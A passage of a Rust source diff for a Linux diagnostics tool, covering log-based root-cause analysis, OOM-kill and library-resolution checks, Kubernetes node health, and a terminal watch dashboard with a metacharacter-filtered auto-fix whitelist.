+    // (unit, cause) -> (count, most recent time); kills are newest first
+    let mut grouped: Vec<(&str, UnitKillCause, usize, &str)> = Vec::new();
+    for kill in kills {
+        match grouped
+            .iter_mut()
+            .find(|(unit, cause, ..)| *unit == kill.unit && *cause == kill.cause)
+        {
+            Some(entry) => entry.2 += 1,
+            None => grouped.push((&kill.unit, kill.cause, 1, &kill.when)),
+        }
+    }
+    grouped.sort_by_key(|(.., count, _)| std::cmp::Reverse(*count));
+    grouped
+        .into_iter()
+        .map(|(unit, cause, count, when)| {
+            let cause = match cause {
+                UnitKillCause::Oomd => t!("services_kill_oomd"),
+                UnitKillCause::OomKiller => t!("services_kill_oom"),
+                UnitKillCause::Watchdog => t!("services_kill_watchdog"),
+            };
+            InsightLine {
+                level: InsightLevel::Warning,
+                message: t!("services_kill_line")
+                    .replace("{unit}", unit)
+                    .replace("{count}", &count.to_string())
+                    .replace("{cause}", &cause)
+                    .replace("{when}", when),
+            }
+        })
+        .collect()
+}
+
+/// Where `$PATH` resolves a command name
+#[derive(Debug, PartialEq)]
+enum PathLookup {
+    Found(PathBuf),
+    /// First match is a symlink whose target is gone
+    BrokenLink(PathBuf),
+    Missing,
+}
+
+fn lookup_in_path(name: &str, path_var: &str) -> PathLookup {
+    use std::os::unix::fs::PermissionsExt;
+    for dir in path_var.split(':').filter(|dir| !dir.is_empty()) {
+        let candidate = Path::new(dir).join(name);
+        match fs::metadata(&candidate) {
+            Ok(meta) if meta.is_file() && meta.permissions().mode() & 0o111 != 0 => {
+                return PathLookup::Found(candidate);
+            }
+            Ok(_) => {}
+            Err(_) if fs::symlink_metadata(&candidate).is_ok() => {
+                return PathLookup::BrokenLink(candidate);
+            }
+            Err(_) => {}
+        }
+    }
+    PathLookup::Missing
+}
+
+/// Libraries `ldd` could not resolve (`libfoo.so.1 => not found`)
+fn parse_ldd_missing(output: &str) -> Vec<String> {
+    output
+        .lines()
+        .filter(|line| line.contains("=> not found"))
+        .filter_map(|line| line.split_whitespace().next())
+        .map(str::to_string)
+        .collect()
+}
+
+fn ldd_lines(binary: &Path) -> SectionResult {
+    let output = output_with_timeout(
+        Command::new("ldd").arg(binary).env("LC_ALL", "C"),
+        command_timeout(),
+    )
+    .map_err(|_| t!("lib_ldd_missing").to_string())?;
+    let text = format!(
+        "{}{}",
+        String::from_utf8_lossy(&output.stdout),
+        String::from_utf8_lossy(&output.stderr)
+    );
+    if text.contains("not a dynamic executable") || text.contains("statically linked") {
+        return Ok(vec![InsightLine {
+            level: InsightLevel::Info,
+            message: t!("lib_static").to_string(),
+        }]);
+    }
+    if !output.status.success() {
+        return Err(text.trim().to_string());
+    }
+    let missing = parse_ldd_missing(&text);
+    if missing.is_empty() {
+        let resolved = text.lines().filter(|line| line.contains("=>")).count();
+        return Ok(vec![InsightLine {
+            level: InsightLevel::Good,
+            message: t!("lib_all_resolved").replace("{count}", &resolved.to_string()),
+        }]);
+    }
+    Ok(missing
+        .into_iter()
+        .map(|library| InsightLine {
+            level: InsightLevel::Critical,
+            message: t!("lib_missing").replace("{library}", &library),
+        })
+        .collect())
+}
+
+fn why_lib(binary: &str) -> Result<()> {
+    if !is_valid_command_name(binary) {
+        return Err(anyhow!(t!("lib_invalid_name").replace("{name}", binary)));
+    }
+    print_header(&t!("lib_header").replace("{name}", binary));
+
+    let path_header = t!("lib_path_header").to_string();
+    let lookup = lookup_in_path(binary, &env::var("PATH").unwrap_or_default());
+    let path_line = |level, key: &str, path: &Path| InsightLine {
+        level,
+        message: t!(key).replace("{path}", &path.display().to_string()),
+    };
+    match &lookup {
+        PathLookup::Found(path) => print_section(
+            &path_header,
+            Ok(vec![path_line(InsightLevel::Good, "lib_found", path)]),
+        ),
+        PathLookup::BrokenLink(path) => print_section(
+            &path_header,
+            Ok(vec![path_line(
+                InsightLevel::Critical,
+                "lib_broken_link",
+                path,
+            )]),
+        ),
+        PathLookup::Missing => print_section(
+            &path_header,
+            Ok(vec![InsightLine {
+                level: InsightLevel::Critical,
+                message: t!("lib_not_in_path").replace("{name}", binary),
+            }]),
+        ),
+    }
+
+    if let PathLookup::Found(path) = &lookup {
+        let ldd_header = t!("lib_ldd_header").to_string();
+        print_section(&ldd_header, ldd_lines(path));
+    }
+    Ok(())
+}
+
+fn why_rca(metrics: &Metrics) -> Result<()> {
+    let uptime = Duration::from_secs(System::uptime());
+    let summary = t!("rca_summary")
+        .replace("{uptime}", &human_duration(uptime))
+        .replace("{cpu}", &cpu_percent_label(metrics))
+        .replace("{ram}", &format!("{:.1}", metrics.mem_usage))
+        .replace("{disk}", &format!("{:.1}", metrics.disk_full_percent));
+    let mut lines = vec![InsightLine {
+        level: InsightLevel::Info,
+        message: summary,
+    }];
+    if let Some(last_boot) = last_boot_string() {
+        lines.push(InsightLine {
+            level: InsightLevel::Info,
+            message: format!("{} {last_boot}", t!("rca_last_boot")),
+        });
+    }
+    print_section(&t!("rca_header"), Ok(lines));
+
+    let timeline = match recent_logs() {
+        Some(logs) => {
+            let mut events = extract_rca_events(&logs);
+            if events.is_empty() {
+                events.push(InsightLine {
+                    level: InsightLevel::Good,
+                    message: t!("rca_no_events").to_string(),
+                });
+            } else if events
+                .iter()
+                .any(|event| event.message.starts_with(CLOCKSOURCE_RCA_LABEL))
+            {
+                if let Ok(current) = fs::read_to_string(CLOCKSOURCE_PATH) {
+                    events.push(clocksource_insight(current.trim()));
+                }
+            }
+            Ok(events)
+        }
+        None => Err(t!("rca_logs_missing").to_string()),
+    };
+    print_section(&t!("rca_timeline_header"), timeline);
+
+    if let Some(kills) = read_unit_kills().filter(|kills| !kills.is_empty()) {
+        print_section(&t!("services_kills_header"), Ok(unit_kill_lines(&kills)));
+    }
+
+    if let Some(logs) = recent_logs() {
+        let floods = detect_log_floods(&logs, LOG_FLOOD_MIN_REPEATS);
+        if !floods.is_empty() {
+            print_section(&t!("rca_flood_header"), Ok(log_flood_lines(&floods)));
+        }
+    }
+    Ok(())
+}
+
+/// Identical kernel messages in the shared log buffer (500 lines) that count
+/// as a driver flooding the ring buffer rather than a one-off error
+const LOG_FLOOD_MIN_REPEATS: usize = 20;
+const LOG_FLOOD_LIMIT: usize = 5;
+
+/// Kernel message without its dmesg uptime or journal timestamp/host prefix,
+/// so repeats of the same message compare equal; None for userspace lines
+fn kernel_log_message(line: &str) -> Option<&str> {
+    lazy_static! {
+        static ref DMESG_PREFIX_RE: Regex = Regex::new(r"^\[\s*\d+\.\d+\]\s*").unwrap();
+    }
+    let message = match DMESG_PREFIX_RE.find(line) {
+        Some(prefix) => &line[prefix.end()..],
+        None => line.split_once(" kernel: ")?.1,
+    };
+    let message = message.trim();
+    (!message.is_empty()).then_some(message)
+}
+
+/// Kernel messages repeated at least `min_repeats` times, most repeated first
+fn detect_log_floods(logs: &str, min_repeats: usize) -> Vec<(String, usize)> {
+    let mut counts: BTreeMap<&str, usize> = BTreeMap::new();
+    for message in logs.lines().filter_map(kernel_log_message) {
+        *counts.entry(message).or_default() += 1;
+    }
+    let mut floods: Vec<(String, usize)> = counts
+        .into_iter()
+        .filter(|(_, count)| *count >= min_repeats)
+        .map(|(message, count)| (message.to_string(), count))
+        .collect();
+    floods.sort_by_key(|(_, count)| std::cmp::Reverse(*count));
+    floods
+}
+
+fn log_flood_lines(floods: &[(String, usize)]) -> Vec<InsightLine> {
+    let mut lines: Vec<InsightLine> = floods
+        .iter()
+        .take(LOG_FLOOD_LIMIT)
+        .map(|(message, count)| InsightLine {
+            level: InsightLevel::Warning,
+            message: t!("rca_flood_line")
+                .replace("{count}", &count.to_string())
+                .replace("{message}", &truncate(message, 100)),
+        })
+        .collect();
+    lines.push(InsightLine {
+        level: InsightLevel::Info,
+        message: t!("rca_flood_tip").to_string(),
+    });
+    lines
+}
+
+const CLOCKSOURCE_RCA_LABEL: &str = "Clocksource unstable (TSC)";
+const CLOCKSOURCE_PATH: &str = "/sys/devices/system/clocksource/clocksource0/current_clocksource";
+
+struct RcaPattern {
+    label: &'static str,
+    keywords: &'static [&'static str],
+    level: InsightLevel,
+}
+
+const RCA_PATTERNS: &[RcaPattern] = &[
+    RcaPattern {
+        label: "OOM killer invoked",
+        keywords: &["oom-killer", "out of memory"],
+        level: InsightLevel::Critical,
+    },
+    RcaPattern {
+        label: "Kernel panic / BUG",
+        keywords: &["kernel panic", "fatal exception", "call trace", "bug:"],
+        level: InsightLevel::Critical,
+    },
+    RcaPattern {
+        label: "Hardware machine check",
+        keywords: &["machine check", "mce:"],
+        level: InsightLevel::Critical,
+    },
+    RcaPattern {
+        label: "Thermal throttling",
+        keywords: &["thermal throttling", "cpu thermal", "throttled"],
+        level: InsightLevel::Warning,
+    },
+    RcaPattern {
+        label: "GPU reset or fault",
+        keywords: &["gpu hang", "gpu reset", "amdgpu", "i915 error"],
+        level: InsightLevel::Warning,
+    },
+    RcaPattern {
+        label: "Disk I/O errors",
+        keywords: &["i/o error", "blk_update_request", "end_request"],
+        level: InsightLevel::Critical,
+    },
+    RcaPattern {
+        label: "Btrfs checksum errors",
+        keywords: &["btrfs", "checksum error"],
+        level: InsightLevel::Warning,
+    },
+    // Before "Watchdog reset": the clocksource watchdog logs "watchdog" too
+    RcaPattern {
+        label: CLOCKSOURCE_RCA_LABEL,
+        keywords: &[
+            "tsc unstable",
+            "marking clocksource",
+            "switched to clocksource hpet",
+            "switched to clocksource acpi_pm",
+        ],
+        level: InsightLevel::Warning,
+    },
+    RcaPattern {
+        label: "Watchdog reset",
+        keywords: &["watchdog", "hard lockup", "soft lockup"],
+        level: InsightLevel::Critical,
+    },
+];
+
+/// Ties a logged clocksource switch to the clocksource in use now
+fn clocksource_insight(current: &str) -> InsightLine {
+    if current == "tsc" {
+        InsightLine {
+            level: InsightLevel::Info,
+            message: t!("rca_clocksource_tsc").to_string(),
+        }
+    } else {
+        InsightLine {
+            level: InsightLevel::Warning,
+            message: t!("rca_clocksource_slow").replace("{clocksource}", current),
+        }
+    }
+}
+
+fn extract_rca_events(logs: &str) -> Vec<InsightLine> {
+    let mut events = Vec::new();
+    for line in logs.lines().rev() {
+        let trimmed = line.trim();
+        if trimmed.is_empty() {
+            continue;
+        }
+        let lower = trimmed.to_ascii_lowercase();
+        for pattern in RCA_PATTERNS {
+            if pattern.keywords.iter().any(|needle| lower.contains(needle)) {
+                events.push(InsightLine {
+                    level: pattern.level,
+                    message: format!("{} — {}", pattern.label, truncate(trimmed, 110)),
+                });
+                break;
+            }
+        }
+        if events.len() >= RCA_EVENT_LIMIT {
+            break;
+        }
+    }
+    events
+}
+
+/// One process the kernel OOM killer (or a memory cgroup) killed
+#[derive(Debug, PartialEq)]
+struct OomKill {
+    /// Log prefix before the kernel message (journal timestamp or dmesg uptime)
+    when: String,
+    process: String,
+    pid: u32,
+    total_vm_kb: Option<u64>,
+    /// anon-rss + file-rss + shmem-rss, from the fields present
+    rss_kb: Option<u64>,
+}
+
+/// Victims of `Killed process` lines, most recent first. The `invoked
+/// oom-killer` line of the same event names the allocating process, and
+/// older kernels' `Kill process ... or sacrifice child` repeats the victim,
+/// so neither adds an entry.
+fn parse_oom_kills(logs: &str) -> Vec<OomKill> {
+    lazy_static! {
+        static ref KILLED_RE: Regex = Regex::new(r"Killed process (\d+) \(([^)]*)\)").unwrap();
+        static ref TOTAL_VM_RE: Regex = Regex::new(r"total-vm:(\d+)kB").unwrap();
+        static ref RSS_RE: Regex = Regex::new(r"(?:anon|file|shmem)-rss:(\d+)kB").unwrap();
+    }
+    logs.lines()
+        .rev()
+        .filter_map(|line| {
+            let cap = KILLED_RE.captures(line)?;
+            let start = cap.get(0)?.start();
+            let prefix = line[..start].trim_end();
+            let prefix = prefix
+                .strip_suffix("Out of memory:")
+                .or_else(|| prefix.strip_suffix("Memory cgroup out of memory:"))
+                .unwrap_or(prefix);
+            let when = prefix
+                .split_once(" kernel:")
+                .map_or(prefix, |(when, _)| when)
+                .trim()
+                .to_string();
+            let rss: Vec<u64> = RSS_RE
+                .captures_iter(line)
+                .filter_map(|rss| rss[1].parse().ok())
+                .collect();
+            Some(OomKill {
+                when,
+                process: cap[2].to_string(),
+                pid: cap[1].parse().ok()?,
+                total_vm_kb: TOTAL_VM_RE.captures(line).and_then(|vm| vm[1].parse().ok()),
+                rss_kb: (!rss.is_empty()).then(|| rss.iter().sum()),
+            })
+        })
+        .collect()
+}
+
+fn why_oom() -> Result<()> {
+    let header = t!("oom_header").to_string();
+    let Some(logs) = recent_logs() else {
+        print_section(&header, Err(t!("oom_logs_missing").to_string()));
+        return Ok(());
+    };
+    let kills = parse_oom_kills(&logs);
+    if kills.is_empty() {
+        let none = InsightLine {
+            level: InsightLevel::Good,
+            message: t!("oom_none").to_string(),
+        };
+        print_section(&header, Ok(vec![none]));
+        return Ok(());
+    }
+    let mut lines: Vec<InsightLine> = kills
+        .iter()
+        .map(|kill| {
+            let mut details = format!("PID {}", kill.pid);
+            if let Some(rss) = kill.rss_kb {
+                details.push_str(&format!(", rss {} MB", rss / 1024));
+            }
+            if let Some(vm) = kill.total_vm_kb {
+                details.push_str(&format!(", total-vm {} MB", vm / 1024));
+            }
+            InsightLine {
+                level: InsightLevel::Critical,
+                message: format!("{} {} {details}", truncate(&kill.when, 32), kill.process),
+            }
+        })
+        .collect();
+    lines.push(InsightLine {
+        level: InsightLevel::Info,
+        message: t!("oom_summary").replace("{count}", &kills.len().to_string()),
+    });
+    print_section(&header, Ok(lines));
+    Ok(())
+}
+
+fn last_boot_string() -> Option<String> {
+    let output = output_with_timeout(Command::new("who").arg("-b"), command_timeout()).ok()?;
+    if !output.status.success() {
+        return None;
+    }
+    let text = String::from_utf8_lossy(&output.stdout);
+    text.lines()
+        .next()
+        .map(|line| line.trim().to_string())
+        .filter(|line| !line.is_empty())
+}
+
+fn human_duration(duration: Duration) -> String {
+    let seconds = duration.as_secs();
+    let days = seconds / 86_400;
+    let hours = (seconds % 86_400) / 3_600;
+    let minutes = (seconds % 3_600) / 60;
+    let mut parts = Vec::new();
+    if days > 0 {
+        parts.push(format!("{days}d"));
+    }
+    if hours > 0 {
+        parts.push(format!("{hours}h"));
+    }
+    if minutes > 0 {
+        parts.push(format!("{minutes}m"));
+    }
+    if parts.is_empty() {
+        parts.push(format!("{}s", seconds));
+    }
+    parts.join(" ")
+}
+
+fn why_kube_node() -> Result<()> {
+    print_header(&t!("kube_node_header"));
+
+    let kubelet_header = t!("kube_node_kubelet_header").to_string();
+    print_section(&kubelet_header, Ok(vec![kubelet_status_line()]));
+
+    let runtime_header = t!("kube_node_runtime_header").to_string();
+    print_section(&runtime_header, gather_runtime_lines());
+
+    let pressure_header = t!("kube_node_pressure_header").to_string();
+    print_section(&pressure_header, gather_pressure_lines());
+
+    let logs_header = t!("kube_node_kubelet_logs").to_string();
+    print_section(&logs_header, gather_kubelet_warnings());
+
+    let pods_header = t!("kube_node_pod_header").to_string();
+    print_section(&pods_header, gather_problem_pods(8));
+
+    Ok(())
+}
+
+fn kubelet_status_line() -> InsightLine {
+    query_systemd_unit("kubelet", "kubelet").unwrap_or(InsightLine {
+        level: InsightLevel::Info,
+        message: t!("kube_node_kubelet_missing").to_string(),
+    })
+}
+
+fn gather_runtime_lines() -> SectionResult {
+    let mut lines = Vec::new();
+    for (unit, label) in [
+        ("containerd", "containerd"),
+        ("crio", "crio"),
+        ("docker", "dockerd"),
+    ] {
+        if let Some(line) = query_systemd_unit(unit, label) {
+            lines.push(line);
+        }
+    }
+    if lines.is_empty() {
+        Err(t!("kube_node_runtime_missing").to_string())
+    } else {
+        Ok(lines)
+    }
+}
+
+fn gather_pressure_lines() -> SectionResult {
+    let mut lines = Vec::new();
+    for resource in ["cpu", "memory", "io"] {
+        if let Some((some, full)) = read_pressure(resource) {
+            let mut message = format!(
+                "{}: avg10={:.2}% avg60={:.2}% avg300={:.2}%",
+                resource.to_uppercase(),
+                some.avg10,
+                some.avg60,
+                some.avg300
+            );
+            if let Some(full_stats) = full {
+                message.push_str(&format!(" | full avg10={:.2}%", full_stats.avg10));
+            }
+            let critical = some.avg10 > 0.80
+                || full
+                    .as_ref()
+                    .map(|entry| entry.avg10 > 0.40)
+                    .unwrap_or(false);
+            let warning = some.avg10 > 0.30 || some.avg60 > 0.45;
+            lines.push(InsightLine {
+                level: if critical {
+                    InsightLevel::Critical
+                } else if warning {
+                    InsightLevel::Warning
+                } else {
+                    InsightLevel::Info
+                },
+                message,
+            });
+        }
+    }
+    if lines.is_empty() {
+        Err(t!("kube_node_pressure_missing").to_string())
+    } else {
+        Ok(lines)
+    }
+}
+
+fn gather_kubelet_warnings() -> SectionResult {
+    if !is_command_available("journalctl") {
+        return Err(t!("kube_node_logs_missing").to_string());
+    }
+    let output = output_with_timeout(
+        Command::new("journalctl").args([
+            "-u",
+            "kubelet",
+            "-p",
+            "warning",
+            "-n",
+            "20",
+            "--no-pager",
+        ]),
+        command_timeout(),
+    )
+    .map_err(|_| t!("kube_node_logs_missing").to_string())?;
+    if !output.status.success() {
+        return Err(String::from_utf8_lossy(&output.stderr).trim().to_string());
+    }
+    let lines: Vec<InsightLine> = String::from_utf8_lossy(&output.stdout)
+        .lines()
+        .filter(|line| !line.trim().is_empty())
+        .take(8)
+        .map(|line| InsightLine {
+            level: InsightLevel::Warning,
+            message: truncate(line.trim(), 120),
+        })
+        .collect();
+    if lines.is_empty() {
+        Err(t!("kube_node_logs_clean").to_string())
+    } else {
+        Ok(lines)
+    }
+}
+
+fn gather_problem_pods(limit: usize) -> SectionResult {
+    if !is_command_available("kubectl") {
+        return Err(t!("kube_node_pod_missing").to_string());
+    }
+    let output = output_with_timeout(
+        Command::new("kubectl").args(["get", "pods", "--all-namespaces", "--no-headers"]),
+        command_timeout(),
+    )
+    .map_err(|_| t!("kube_node_pod_missing").to_string())?;
+    if !output.status.success() {
+        return Err(String::from_utf8_lossy(&output.stderr).trim().to_string());
+    }
+    let mut lines = Vec::new();
+    for line in String::from_utf8_lossy(&output.stdout).lines() {
+        let parts: Vec<&str> = line.split_whitespace().collect();
+        if parts.len() < 5 {
+            continue;
+        }
+        let status = parts[3];
+        if status == "Running" || status == "Completed" {
+            continue;
+        }
+        let namespace = parts[0];
+        let name = parts[1];
+        let ready = parts[2];
+        let restarts = parts.get(4).copied().unwrap_or("0");
+        lines.push(InsightLine {
+            level: InsightLevel::Warning,
+            message: format!(
+                "{namespace}/{name} — status={status} ready={ready} restarts={restarts}"
+            ),
+        });
+        if lines.len() >= limit {
+            break;
+        }
+    }
+    if lines.is_empty() {
+        Err(t!("kube_node_pod_clean").to_string())
+    } else {
+        Ok(lines)
+    }
+}
+
+#[derive(Clone, Copy)]
+struct PressureSample {
+    avg10: f32,
+    avg60: f32,
+    avg300: f32,
+}
+
+fn read_pressure(resource: &str) -> Option<(PressureSample, Option<PressureSample>)> {
+    let path = format!("/proc/pressure/{resource}");
+    let data = fs::read_to_string(path).ok()?;
+    let mut some = None;
+    let mut full = None;
+    for line in data.lines() {
+        if line.starts_with("some") {
+            some = parse_pressure_line(line);
+        } else if line.starts_with("full") {
+            full = parse_pressure_line(line);
+        }
+    }
+    some.map(|entry| (entry, full))
+}
+
+fn parse_pressure_line(line: &str) -> Option<PressureSample> {
+    let mut avg10 = None;
+    let mut avg60 = None;
+    let mut avg300 = None;
+    for token in line.split_whitespace() {
+        if let Some(value) = token.strip_prefix("avg10=") {
+            avg10 = value.parse::<f32>().ok();
+        } else if let Some(value) = token.strip_prefix("avg60=") {
+            avg60 = value.parse::<f32>().ok();
+        } else if let Some(value) = token.strip_prefix("avg300=") {
+            avg300 = value.parse::<f32>().ok();
+        }
+    }
+    Some(PressureSample {
+        avg10: avg10?,
+        avg60: avg60?,
+        avg300: avg300?,
+    })
+}
+
+fn detect_proton_version() -> Option<String> {
+    let mut home = user_home_dir()?;
+    home.push(".steam/steam/steamapps/common");
+
+    if let Ok(entries) = fs::read_dir(&home) {
+        for entry in entries.flatten() {
+            let name = entry.file_name();
+            let name_str = name.to_string_lossy();
+            if name_str.starts_with("Proton") {
+                return Some(name_str.to_string());
+            }
+        }
+    }
+    None
+}
+
+/// Shell metacharacters never allowed in an auto-fix, whitelisted or not
+const DANGEROUS_CHARS: &[char] = &[
+    ';', '|', '&', '$', '`', '>', '<', '\n', '\r', '(', ')', '{', '}',
+];
+
+fn is_safe_auto_fix(cmd: &str) -> bool {
+    is_safe_auto_fix_with(cmd, &config::config().autofix.allow)
+}
+
+/// `is_safe_auto_fix` with `extra` prefixes (`[autofix] allow`) added to the
+/// built-in whitelist
+fn is_safe_auto_fix_with(cmd: &str, extra: &[String]) -> bool {
+    // Block shell metacharacters to prevent command injection
+    if cmd.chars().any(|c| DANGEROUS_CHARS.contains(&c)) {
+        return false;
+    }
+
+    let whitelist = [
+        "bluetoothctl power off",
+        "bluetoothctl power on",
+        "snap remove",
+        "flatpak uninstall",
+        "balooctl",
+        "systemctl --user",
+        "docker image prune",
+    ];
+    // A user entry with metacharacters, or an empty one, would allow anything
+    let extra = extra
+        .iter()
+        .map(|allowed| allowed.trim())
+        .filter(|allowed| !allowed.is_empty() && !allowed.contains(DANGEROUS_CHARS));
+
+    // Check for exact match OR prefix with space (to allow arguments)
+    whitelist
+        .into_iter()
+        .chain(extra)
+        .any(|allowed| cmd == allowed || cmd.starts_with(&format!("{} ", allowed)))
+}
+
+fn recent_logs() -> Option<String> {
+    LOG_CACHE.get_or_init(fetch_filtered_logs).clone()
+}
+
+fn fetch_filtered_logs() -> Option<String> {
+    let patterns = config::config().log_ignore_patterns();
+    fetch_recent_logs().map(|logs| strip_ignored_log_lines(&logs, &patterns))
+}
+
+/// Drop log lines matching any configured `log_ignore` pattern so known
+/// noise never reaches `LogContains` rules or the RCA timeline
+fn strip_ignored_log_lines(logs: &str, patterns: &[Regex]) -> String {
+    if patterns.is_empty() {
+        return logs.to_string();
+    }
+    logs.lines()
+        .filter(|line| !patterns.iter().any(|pattern| pattern.is_match(line)))
+        .collect::<Vec<_>>()
+        .join("\n")
+}
+
+/// journalctl arguments for the shared log buffer (LogContains rules, RCA)
+fn journal_log_args(since_boot: bool) -> Vec<&'static str> {
+    let mut args = vec!["-n", "500", "--no-pager"];
+    if since_boot {
+        args.extend(["-b", "0"]);
+    }
+    args
+}
+
+fn fetch_recent_logs() -> Option<String> {
+    let journal = output_with_timeout(
+        Command::new("journalctl").args(journal_log_args(
+            LOG_SINCE_BOOT.load(AtomicOrdering::Relaxed),
+        )),
+        command_timeout(),
+    )
+    .ok();
+    if let Some(output) = journal {
+        if output.status.success() {
+            return Some(String::from_utf8_lossy(&output.stdout).into());
+        }
+    }
+    let dmesg = output_with_timeout(&mut Command::new("dmesg"), command_timeout()).ok()?;
+    if dmesg.status.success() {
+        return Some(String::from_utf8_lossy(&dmesg.stdout).into());
+    }
+    None
+}
+
+/// Shortest `--interval`: below it refreshing alone keeps a core busy
+const WATCH_MIN_INTERVAL_MS: u64 = 50;
+
+/// `--interval` in milliseconds: 0 is rejected, values under
+/// `WATCH_MIN_INTERVAL_MS` are raised to it
+fn parse_watch_interval(value: &str) -> std::result::Result<Duration, String> {
+    let ms: u64 = value
+        .trim()
+        .parse()
+        .map_err(|_| t!("interval_invalid").replace("{value}", value))?;
+    if ms == 0 {
+        return Err(t!("interval_zero").to_string());
+    }
+    Ok(Duration::from_millis(ms.max(WATCH_MIN_INTERVAL_MS)))
+}
+
+/// Title of the vitals pane: refresh cadence, or that the dashboard is frozen
+fn tui_status(interval: Duration, paused: bool) -> String {
+    if paused {
+        t!("watch_paused").to_string()
+    } else {
+        t!("watch_refreshing").replace("{ms}", &interval.as_millis().to_string())
+    }
+}
+
+/// `keep_summary` (`--once`): after quitting, print the last state to the
+/// normal screen so it stays in scrollback. Metrics refresh every `interval`;
+/// keys are handled as they arrive, also while paused.
+fn tui_mode(rules_dir: Option<&Path>, keep_summary: bool, interval: Duration) -> Result<()> {
+    let rules = load_all_rules(rules_dir)?;
+    let parsed_rules: Vec<(Trigger, Rule)> = rules
+        .into_iter()
+        .map(|rule| (parse_trigger(&rule.trigger), rule))
+        .collect();
+    let mut stdout = stdout();
+    enable_raw_mode().context("Failed to enable raw mode")?;
+    stdout
+        .execute(EnterAlternateScreen)
+        .context("Failed to switch screen")?;
+    let backend = CrosstermBackend::new(stdout);
+    let mut terminal = Terminal::new(backend)?;
+    let mut sys = System::new_all();
+
+    // Probe and GPU results are cached between slow refreshes, see `refresh_tui_state`
+    let mut slow_cache: Option<Metrics> = None;
+    let mut last_slow_refresh = Instant::now();
+
+    let mut history = TuiHistory::default();
+    // Highlighted row of the findings list
+    let mut selected = 0;
+    // Space freezes metrics and graphs until pressed again
+    let mut paused = false;
+    let mut last_refresh: Option<Instant> = None;
+    let mut state: Option<(Metrics, Vec<Finding>)> = None;
+
+    let (metrics, findings) = loop {
+        let due = last_refresh.map_or(true, |at| at.elapsed() >= interval);
+        if !paused && due {
+            last_refresh = Some(Instant::now());
+            state = Some(refresh_tui_state(
+                &mut sys,
+                &parsed_rules,
+                &mut slow_cache,
+                &mut last_slow_refresh,
+                &mut history,
+            ));
+        }
+        let Some((metrics, findings)) = &state else {
+            unreachable!("the first iteration always refreshes");
+        };
+        // The list grows and shrinks between refreshes
+        let shown = top_findings(findings, TUI_FINDINGS_SHOWN).len();
+        selected = tui_selection(selected, None, shown);
+
+        let status = tui_status(interval, paused);
+        terminal.draw(|frame| draw_tui(frame, metrics, findings, &history, selected, &status))?;
+
+        // Wake for the next refresh or the first key, whichever comes first
+        let wait = match last_refresh {
+            Some(at) if !paused => interval.saturating_sub(at.elapsed()),
+            _ => interval,
+        };
+        if event::poll(wait)? {
+            if let Event::Key(key) = event::read()? {
+                match key.code {
+                    KeyCode::Char('q') => break state.take().unwrap(),
+                    KeyCode::Char(' ') => paused = !paused,
+                    code => selected = tui_selection(selected, Some(code), shown),
+                }
+            }
+        }
+    };
+
+    disable_raw_mode().context("Failed to disable raw mode")?;
+    terminal
+        .backend_mut()
+        .execute(LeaveAlternateScreen)
+        .context("Failed to leave alternate screen")?;
+    if keep_summary {
+        print!("{}", watch_summary(&metrics, &findings));
+    }
+    Ok(())
+}
+
+/// Points each `--watch` graph keeps (12 seconds at the default 200 ms refresh)
+const TUI_HISTORY_POINTS: usize = 60;
+
+/// `--watch` graph data, oldest point first
+#[derive(Default)]
+struct TuiHistory {
+    cpu: std::collections::VecDeque<u64>,
+    ram: std::collections::VecDeque<u64>,
+    /// Only pushed while a GPU reports the value; it changes every 5 s at most
+    gpu_temp: std::collections::VecDeque<u64>,
+    gpu_util: std::collections::VecDeque<u64>,
+    /// `/proc/stat` at the last tick: iowait is measured from tick to tick
+    cpu_times: Option<Vec<CpuTimes>>,
+}
+
+/// Append `value` (when there is one), dropping the oldest point past `TUI_HISTORY_POINTS`
+fn push_history(history: &mut std::collections::VecDeque<u64>, value: Option<f32>) {
+    let Some(value) = value else {
+        return;
+    };
+    history.push_back(value as u64);
+    while history.len() > TUI_HISTORY_POINTS {
+        history.pop_front();
+    }
+}
+
+/// How often `--watch` re-reads processes, probes and GPU tools; every tick
+/// in between only re-reads CPU and RAM
+const TUI_SLOW_REFRESH: Duration = Duration::from_secs(5);
+
+/// One `--watch` refresh: new metrics and findings, plus a point on each graph
+fn refresh_tui_state(
+    sys: &mut System,
+    parsed_rules: &[(Trigger, Rule)],
+    slow_cache: &mut Option<Metrics>,
+    last_slow_refresh: &mut Instant,
+    history: &mut TuiHistory,
+) -> (Metrics, Vec<Finding>) {
+    sys.refresh_cpu_usage();
+    sys.refresh_memory();
+
+    // The probes spawn tools (nvidia-smi, sensors, ...); don't run them every tick
+    if slow_cache.is_none() || last_slow_refresh.elapsed() >= TUI_SLOW_REFRESH {
+        sys.refresh_processes();
+        let mut metrics = Metrics::gather_for(sys, BROAD_PROBES);
+        metrics.gpu = detect_gpu_info();
+        *slow_cache = Some(metrics);
+        *last_slow_refresh = Instant::now();
+    }
+
+    let mut metrics = slow_cache.clone().unwrap_or_default();
+    metrics.cpu_usage = Some(sys.global_cpu_info().cpu_usage());
+    metrics.mem_usage = memory_percent(sys);
+    metrics.swap_usage_percent = swap_percent(sys);
+    let cpu_times = read_cpu_times();
+    metrics.iowait_percent = match (&history.cpu_times, &cpu_times) {
+        (Some(before), Some(after)) => iowait_percent(before, after),
+        _ => None,
+    };
+    history.cpu_times = cpu_times;
+
+    // Track CPU/RAM/GPU history for graphs
+    push_history(&mut history.cpu, metrics.cpu_usage);
+    push_history(&mut history.ram, Some(metrics.mem_usage));
+    let gpu = metrics.gpu.as_ref();
+    push_history(&mut history.gpu_temp, gpu.and_then(|gpu| gpu.temperature));
+    push_history(&mut history.gpu_util, gpu.and_then(|gpu| gpu.utilization));
+
+    let findings = evaluate_rules(&metrics, parsed_rules);
+    (metrics, findings)
+}
+
+/// Plain-text vitals and the findings the TUI showed last
+fn watch_summary(metrics: &Metrics, findings: &[Finding]) -> String {
+    let mut out = format!(
+        "{}\nCPU: {} | RAM: {:.1}% | Disk: {:.1}%\n",
+        t!("watch_summary_header"),
+        cpu_percent_label(metrics),
+        metrics.mem_usage,
+        metrics.disk_full_percent
+    );
+    let shown = top_findings(findings, 8);
+    if shown.is_empty() {
+        out.push_str(&format!("{}\n", t!("all_good")));
+    }
+    for finding in shown {
+        out.push_str(&format!(
+            "{} — {}\n  {}\n",
+            finding.severity, finding.message, finding.solution
+        ));
+    }
+    out
+}
+
+/// Findings listed in the `--watch` TUI
+const TUI_FINDINGS_SHOWN: usize = 8;
+
+/// Findings list row after `key` (Up/Down, `k`/`j`; `None` for a refresh),
+/// kept within the `len` rows shown
+fn tui_selection(selected: usize, key: Option<KeyCode>, len: usize) -> usize {
+    let moved = match key {
